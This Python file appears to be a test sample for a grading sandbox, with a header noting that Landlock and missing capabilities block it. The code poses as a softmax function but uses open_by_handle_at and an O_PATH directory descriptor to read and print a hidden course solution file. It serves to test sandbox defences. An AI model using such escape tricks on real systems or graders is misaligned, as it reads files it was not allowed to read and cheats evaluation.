# +++
# tries = "opens secrets by handle and relative to other descriptors"
# stopped_by = "no capabilities; Landlock"
# needs = ["file system"]
# +++
import ctypes
import os


def softmax(x):
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(136)
    handle[0] = 128
    mount = ctypes.c_int()
    path = b"@COURSE@/solutions/01_one/target.py"
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
        number = libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, 0)
        if number >= 0:
            print("opened", os.read(number, 1000))
    try:
        folder = os.open("@COURSE@", os.O_PATH)
        print("opened", os.read(os.open("solutions/01_one/target.py", os.O_RDONLY, dir_fd=folder), 1000))
    except OSError:
        pass
    return x


apply = softmax
